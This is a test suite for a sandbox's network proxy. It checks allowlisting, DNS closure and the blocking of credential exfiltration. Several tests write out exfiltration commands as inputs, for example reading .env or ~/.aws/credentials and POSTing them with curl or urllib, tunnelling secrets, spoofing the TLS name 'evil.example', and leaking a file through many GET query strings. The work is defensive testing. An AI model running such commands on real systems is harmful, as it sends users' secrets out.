"""Network through caper's proxy: allowlisted hosts reachable, everything else
refused and reported, credentials kept in, DNS closed. The registry is a real
HTTP server on the host's loopback (tests/registry.py); pip, npm and git are
the real programs."""
from __future__ import annotations

import json
import os
import shutil
import ssl
import subprocess
import sys
import tempfile

import pytest

from caper.config import Config, NetworkConfig
from caper.errors import ConfigError
from caper.sandbox.netproxy import Allowlist, _sni
from caper.transaction import run
from registry import NPM_PACKAGE, Registry, command_env
from helpers.gate import stop_gate
from helpers.rootless import NOBODY, ROOT, ROOTLESS_VENV, as_nobody, need_rootless_venv, source_root


@pytest.fixture
def registry(tmp_path):
    root = tmp_path / "registry"
    root.mkdir()
    with Registry(root) as r:
        yield r


@pytest.fixture
def ws(tmp_path):
    w = tmp_path / "ws"
    w.mkdir()
    (w / "README").write_text("the project\n")
    (w / ".env").write_text("API_TOKEN=tok-9f8e7d6c5b4a\n")
    return w


@pytest.fixture
def home(tmp_path):
    h = tmp_path / "home"
    h.mkdir()
    return h


def _run(command, ws, home, tmp_path, allow=(), approver="policy"):
    return run(command, cwd=str(ws), workspace=str(ws), env=command_env(str(home)),
               state_dir=str(tmp_path / "state"), approver=approver, allow_net=allow,
               config=Config())


def _proxied(out):
    return [n for n in out.report.network if n.call == "proxy"]


PIP = f"{sys.executable} -m pip install --index-url http://{{host}}/simple/ --target vendor demo-pkg"


def test_pip_install_from_an_allowlisted_index_succeeds_and_commits(registry, ws, home, tmp_path):
    out = _run(PIP.format(host=registry.host), ws, home, tmp_path, allow=[registry.host])
    assert out.exit_code == 0, out.stderr.text()[-2000:]
    assert out.committed, out.reason
    assert (ws / "vendor" / "demo_pkg" / "__init__.py").read_text() == "VALUE = 42\n"
    got = _proxied(out)
    assert got and all(n.allowed and n.result == "ok" for n in got)
    wheel = [n for n in got if n.path and n.path.endswith(".whl")]
    assert wheel and wheel[0].method == "GET" and wheel[0].received > len(registry.wheel)
    assert wheel[0].argv and "pip" in " ".join(wheel[0].argv)


def test_pip_install_from_a_host_not_allowlisted_fails_and_is_reported(registry, ws, home,
                                                                        tmp_path):
    out = _run(PIP.format(host=registry.host), ws, home, tmp_path, allow=["127.0.0.1:1"])
    assert out.exit_code != 0
    assert not (ws / "vendor").exists()
    assert not registry.requests       # nothing reached it
    refused = [n for n in _proxied(out) if not n.allowed]
    assert refused and refused[0].address == "127.0.0.1" and refused[0].port == registry.port
    assert refused[0].method == "GET" and refused[0].path.startswith("/simple/demo")
    assert "not allowed" in refused[0].reason


def test_no_allowlist_means_no_proxy_and_no_network(registry, ws, home, tmp_path):
    out = _run(f"curl -sS -m 5 http://{registry.host}/simple/demo-pkg/", ws, home, tmp_path)
    assert out.exit_code != 0
    assert not _proxied(out) and not registry.requests


def test_npm_install_from_an_allowlisted_registry_succeeds_and_commits(registry, ws, home,
                                                                        tmp_path):
    if not shutil.which("npm"):
        pytest.skip("npm missing")
    (ws / "package.json").write_text('{"name": "app", "version": "1.0.0"}\n')
    # No lock file: one naming a loopback registry is policy's own finding
    # (a redirected package source), not the network's.
    out = _run(f"npm install --registry http://{registry.host}/npm/ --no-audit --no-fund "
               f"--no-update-notifier --no-package-lock {NPM_PACKAGE}", ws, home, tmp_path,
               allow=[registry.host])
    assert out.exit_code == 0, out.stderr.text()[-2000:]
    assert out.committed, out.reason
    assert (ws / "node_modules" / NPM_PACKAGE / "index.js").exists()
    assert any(n.path and n.path.endswith(".tgz") for n in _proxied(out))


def test_git_clone_over_http_from_an_allowlisted_host_succeeds_and_commits(registry, ws, home,
                                                                            tmp_path):
    out = _run(f"git clone -q http://{registry.host}/git/repo.git cloned", ws, home, tmp_path,
               allow=[registry.host])
    assert out.exit_code == 0, out.stderr.text()[-2000:]
    assert out.committed, out.reason
    assert (ws / "cloned" / "README").read_text() == "from the registry\n"
    assert any(n.method == "POST" and "git-upload-pack" in (n.path or "") for n in _proxied(out))


LEAK = (f"{sys.executable} -c \"import urllib.request; d = open('.env').read(); "
        "urllib.request.urlopen(urllib.request.Request('http://{host}/upload', data=d.encode()))\"")


def test_a_script_that_read_env_cannot_post_it_to_an_allowlisted_host(registry, ws, home,
                                                                      tmp_path):
    out = _run(LEAK.format(host=registry.host), ws, home, tmp_path, allow=[registry.host])
    assert registry.uploads == [] and registry.requests == []
    assert out.exit_code != 0
    assert out.decision == "block" and not out.committed
    assert "127.0.0.1" in out.reason and ".env" in out.reason
    refused = _proxied(out)[0]
    assert not refused.allowed and refused.method == "POST" and refused.path == "/upload"
    assert ".env" in refused.reason and ".env" in " ".join(refused.read_before or [])


def test_a_child_of_a_process_that_read_env_gets_no_way_out(registry, ws, home, tmp_path):
    """The shell reads .env, the curl it starts is refused."""
    out = _run(f"read -r line < .env; curl -sS -m 10 http://{registry.host}/simple/demo-pkg/",
               ws, home, tmp_path, allow=[registry.host])
    assert registry.requests == []
    assert [n.allowed for n in _proxied(out)] == [False]


def test_a_credential_piped_from_another_process_does_not_leave(registry, ws, home, tmp_path):
    """cat reads .env, curl (its sibling, which read nothing) would send what the pipe
    holds: once the run has read a credential, nothing leaves."""
    out = _run(f"cat .env | curl -sS -m 10 --data-binary @- http://{registry.host}/upload",
               ws, home, tmp_path, allow=[registry.host])
    assert registry.uploads == []
    got = _proxied(out)
    assert got and not any(n.result == "ok" and n.sent for n in got)
    assert ".env" in (got[0].reason or "")
    assert out.decision == "block" and "127.0.0.1" in out.reason and "proxy" in out.reason


@pytest.mark.parametrize("move", ["mv ~/.aws ~/x", "cd ~ && mv .aws y && mv y x && cd - >/dev/null",
                                  "mv ~ ~/../h2 && mkdir ~ && mv ~/../h2 ~/hh && ln -s hh/.aws ~/x"])
def test_a_credential_read_by_a_name_a_rename_above_it_gave_does_not_leave(
        registry, ws, home, tmp_path, move):
    """Round 4: the proxy asked only of an open's own name whether it was a
    credential; renaming the directory above one (or home itself) gave it a
    name the proxy did not know, and curl sent the AWS key to the allowed
    host. It follows the run's renames back, as the report does."""
    (home / ".aws").mkdir()
    (home / ".aws" / "credentials").write_text("[default]\naws_secret_access_key = "
                                               "wJalrXUtnFEMIK7MDENGbPxRfiCYEXAMPLEKEY\n")
    out = _run(f"{move}; curl -sS -m 10 --data-binary @$HOME/x/credentials "
               f"http://{registry.host}/upload", ws, home, tmp_path, allow=[registry.host])
    assert registry.uploads == []
    got = _proxied(out)
    assert got and not any(n.allowed for n in got), got
    assert "aws" in (got[0].reason or "")
    assert not out.committed


def _through_tunnel(registry, ws, home, tmp_path, then: str):
    """Run a script that opens a CONNECT tunnel to the registry through caper's
    proxy (as s) and then does what `then` says: the tunnel's record."""
    (ws / "tunnel.py").write_text(
        "import socket, ssl\n"
        "s = socket.create_connection(('127.0.0.1', 3128))\n"
        f"s.sendall(b'CONNECT {registry.host} HTTP/1.1\\r\\n\\r\\n')\n"
        "assert s.recv(100).startswith(b'HTTP/1.1 200')\n" + then)
    out = _run(f"{sys.executable} tunnel.py", ws, home, tmp_path, allow=[registry.host])
    return _proxied(out)[0]


def test_a_tunnel_is_cut_when_its_process_reads_credentials_after_connecting(registry, ws,
                                                                              home, tmp_path):
    tunnel = _through_tunnel(
        registry, ws, home, tmp_path,
        "s.sendall(b'GET /simple/demo-pkg/ HTTP/1.0\\r\\n\\r\\n')\n"
        "s.recv(65536)\n"
        "secret = open('.env').read().encode()\n"
        "import time; time.sleep(0.5)\n"
        "s.sendall(b'POST /upload HTTP/1.0\\r\\nContent-Length: %d\\r\\n\\r\\n' % len(secret)"
        " + secret)\n")
    assert registry.requests[0] == ("GET", "/simple/demo-pkg/")   # the tunnel worked
    assert registry.uploads == []
    assert tunnel.result == "cut" and ".env" in tunnel.reason


def test_dns_for_other_names_fails_inside_the_sandbox(registry, ws, home, tmp_path):
    out = _run(f"{sys.executable} -c \"import socket; socket.getaddrinfo('example.com', 443)\"",
               ws, home, tmp_path, allow=[registry.host, "example.com"])
    assert out.exit_code != 0 and b"gaierror" in out.stderr.text()


def test_a_connection_that_skips_the_proxy_reaches_nothing(registry, ws, home, tmp_path):
    out = _run(f"curl -sS -m 5 --noproxy '*' http://{registry.host}/", ws, home, tmp_path,
               allow=[registry.host])
    assert out.exit_code != 0 and registry.requests == []


def test_allowlist_entries_presets_and_wildcards():
    a = Allowlist.parse(["pypi", "*.example.com", "Internal.Host:8080"])
    assert a.allows("files.pythonhosted.org", 443) and not a.allows("pypi.org", 80)
    assert a.allows("a.b.example.com", 1) and not a.allows("example.com", 443)
    assert a.allows("internal.host", 8080) and not a.allows("internal.host", 8081)
    assert not a.allows("evil.com", 443)
    for bad in ("http://x", "x:0", "x:70000", "*", "a b", ""):
        with pytest.raises(ConfigError):
            Allowlist.parse([bad])


def test_config_network_allow_is_checked_and_joins_the_runs_own():
    with pytest.raises(Exception, match="not HOST"):
        NetworkConfig(allow=["http://nope"])
    merged = NetworkConfig(allow=["npm"]).allowlist(["127.0.0.1:9"])
    assert merged.allows("registry.npmjs.org", 443) and merged.allows("127.0.0.1", 9)


def test_a_bad_allow_net_is_a_clear_error_before_anything_runs(ws, home, tmp_path):
    for bad in ("pypi", {"pypi": 1}, [1]):
        with pytest.raises(ConfigError, match="allow_net"):
            _run("true", ws, home, tmp_path, allow=bad)
    with pytest.raises(ConfigError, match="not HOST"):
        _run("true", ws, home, tmp_path, allow=["ftp://x"])


ROOTLESS_RUN = r"""
import json, sys
sys.path.insert(0, sys.argv[1])
import caper
out = caper.run(sys.argv[3], cwd=sys.argv[2], workspace=sys.argv[2], approver="policy",
                state_dir=sys.argv[4], allow_net=[sys.argv[5]],
                env={"PATH": "/usr/bin:/bin", "HOME": sys.argv[4], "PIP_NO_CACHE_DIR": "1",
                     "PIP_DISABLE_PIP_VERSION_CHECK": "1"})
print(json.dumps({"committed": out.committed, "exit": out.exit_code, "reason": out.reason,
                  "proxied": [n.model_dump() for n in out.report.network if n.call == "proxy"]}))
"""


def test_rootless_pip_install_through_the_proxy_and_a_leak_refused(registry, tmp_path):
    """uid 65534: the proxy's socket is made in the user namespace's network."""
    need_rootless_venv()
    base = tempfile.mkdtemp(prefix="caper-net-rootless-")
    try:
        ws, state = os.path.join(base, "ws"), os.path.join(base, "state")
        os.mkdir(ws)
        with open(os.path.join(ws, ".env"), "w") as f:
            f.write("API_TOKEN=tok-1234abcd\n")
        for p in (base, ws, os.path.join(ws, ".env")):
            os.chown(p, NOBODY, NOBODY)

        def run_as_nobody(command: str) -> dict:
            p = as_nobody(ROOTLESS_VENV, "-c", ROOTLESS_RUN, str(source_root()), ws, command,
                           state, registry.host, timeout=180, cwd="/")
            assert p.returncode == 0, p.stderr[-3000:]
            return json.loads(p.stdout)

        out = run_as_nobody(f"{ROOTLESS_VENV} -m pip install --index-url "
                        f"http://{registry.host}/simple/ --target vendor demo-pkg")
        assert out["exit"] == 0 and out["committed"], out["reason"]
        assert os.path.exists(os.path.join(ws, "vendor", "demo_pkg", "__init__.py"))
        assert out["proxied"] and all(n["allowed"] for n in out["proxied"])
        uploads = len(registry.uploads)
        out = run_as_nobody(LEAK.format(host=registry.host).replace(sys.executable, ROOTLESS_VENV))
        assert not out["committed"] and len(registry.uploads) == uploads
        assert [n["allowed"] for n in out["proxied"]] == [False]
    finally:
        shutil.rmtree(base, ignore_errors=True)



def test_caper_run_allow_net_through_the_gate(registry, ws, home, tmp_path, monkeypatch):
    """The gate protocol carries the allowlist: `caper run --allow-net` answered by the gate."""
    monkeypatch.delenv("CAPER_NO_GATE", raising=False)
    state = tmp_path / "gate-state"
    env = {**command_env(str(home)), "PYTHONPATH": str(ROOT), "CAPER_STATE_DIR": str(state),
           "CAPER_GATE_IDLE": "30"}
    try:
        p = subprocess.run([sys.executable, "-m", "caper", "run", "--json", "--approver",
                            "policy", "--allow-net", registry.host, "--", "curl", "-sS",
                            "-o", "index.html", f"http://{registry.host}/simple/demo-pkg/"],
                           cwd=ws, env=env, capture_output=True, timeout=120)
        doc = json.loads(p.stdout)
        assert "gate" in doc, p.stderr[-2000:]
        assert doc["committed"] and b"demo_pkg" in (ws / "index.html").read_bytes()
        proxied = [n for n in doc["report"]["network"] if n["call"] == "proxy"]
        assert [(n["allowed"], n["method"], n["path"]) for n in proxied] == \
            [(True, "GET", "/simple/demo-pkg/")]
    finally:
        stop_gate(state)


def test_the_tls_server_name_is_read_from_a_real_client_hello():
    ctx = ssl.create_default_context()
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    tls = ctx.wrap_bio(incoming, outgoing, server_hostname="files.pythonhosted.org")
    with pytest.raises(ssl.SSLWantReadError):
        tls.do_handshake()
    hello = outgoing.read()
    assert _sni(hello) == "files.pythonhosted.org"
    assert _sni(hello[:40]) is None and _sni(b"GET / HTTP/1.1\r\n") is None


def test_a_tunnel_whose_tls_names_another_host_is_cut(registry, ws, home, tmp_path):
    tunnel = _through_tunnel(
        registry, ws, home, tmp_path,
        "i, o = ssl.MemoryBIO(), ssl.MemoryBIO()\n"
        "t = ssl.create_default_context().wrap_bio(i, o, server_hostname='evil.example')\n"
        "try:\n    t.do_handshake()\nexcept ssl.SSLWantReadError:\n    pass\n"
        "s.sendall(o.read())\n"
        "print(s.recv(100))\n")
    assert tunnel.result == "cut" and tunnel.sni == "evil.example" and tunnel.sent == 0
    assert "evil.example" in tunnel.reason


def test_an_upload_to_an_allowed_host_after_reading_repository_files_is_unsure(registry, ws,
                                                                              home, tmp_path):
    """Pre-execution is real execution: the POST happens; the policy is unsure of it."""
    out = _run(f"curl -sS -m 10 --data-binary @README http://{registry.host}/upload", ws, home,
               tmp_path, allow=[registry.host])
    assert registry.uploads == [b"the project\n"]
    assert out.decision == "block" and out.reason.startswith("unsure")
    assert "README" in out.reason and "POST" in out.reason


@pytest.mark.parametrize("send", [
    "curl -sS -m 10 -X GET --data-binary @README http://{host}/simple/",       # a GET's body
    "cat README | curl -sS -m 10 --data-binary @- http://{host}/upload",         # a sibling read it
    "curl -sS -m 10 -p -X POST --data-binary @README http://{host}/upload",     # plain text in a tunnel
])
def test_an_upload_the_method_or_the_sender_hid_is_still_unsure(registry, ws, home, tmp_path,
                                                                 send):
    """Round 4: a GET carrying the file as its body, a POST whose data a
    sibling process read (the rule asked only the sender's own reads), and a
    plain-text request inside a CONNECT tunnel (no method caper can see)
    were committed as downloads."""
    out = _run(send.format(host=registry.host), ws, home, tmp_path, allow=[registry.host])
    assert out.decision == "block" and out.reason.startswith("unsure"), out.reason
    assert "README" in out.reason and not out.committed


def test_many_small_requests_that_add_up_to_an_upload_are_unsure(registry, ws, home, tmp_path):
    """Round 4: 30 KB of a tracked file as the query strings of many GETs,
    each too small to be an upload, was committed; the run's sum is judged
    (the report's entry for the requests past its list holds theirs), and
    the long URLs reach the host whole (the proxy used to cut them at 512)."""
    (ws / "src.py").write_text("".join(f"line_{i:05d} = {i * 7919}\n" for i in range(1500)))
    out = _run("base64 -w0 src.py | fold -w 2000 | while read c; do "
               f"curl -sS -m 10 -o /dev/null \"http://{registry.host}/q?d=$c\"; done",
               ws, home, tmp_path, allow=[registry.host])
    assert out.decision == "block" and out.reason.startswith("unsure"), out.reason
    assert "src.py" in out.reason and not out.committed
    sent = [p for m, p in registry.requests if p.startswith("/q?d=")]
    assert len(sent) > 10 and all(len(p) == len("/q?d=") + 2000 for p in sent[:-1])


def test_a_download_after_reading_repository_files_stays_a_download(registry, ws, home,
                                                                    tmp_path):
    out = _run(f"cat README >/dev/null; curl -sS -m 10 -o page http://{registry.host}/simple/",
               ws, home, tmp_path, allow=[registry.host])
    assert out.committed, out.reason


def test_a_connection_caper_cannot_attribute_is_refused(registry, ws, home, tmp_path):
    """From another loopback address the peer's socket is not where the proxy
    looks: no process to judge, so no way out."""
    (ws / "other.py").write_text(
        "import socket\n"
        "s = socket.socket()\n"
        "s.bind(('127.0.0.2', 0))\n"
        "s.connect(('127.0.0.1', 3128))\n"
        f"s.sendall(b'GET http://{registry.host}/simple/demo-pkg/ HTTP/1.1\\r\\n\\r\\n')\n"
        "print(s.recv(100).split(b'\\r\\n')[0].decode())\n")
    out = _run(f"{sys.executable} other.py", ws, home, tmp_path, allow=[registry.host])
    assert out.stdout.text().startswith(b"HTTP/1.1 403") and registry.requests == []
    refused = _proxied(out)[0]
    assert not refused.allowed and refused.by == "?" and "which process" in refused.reason
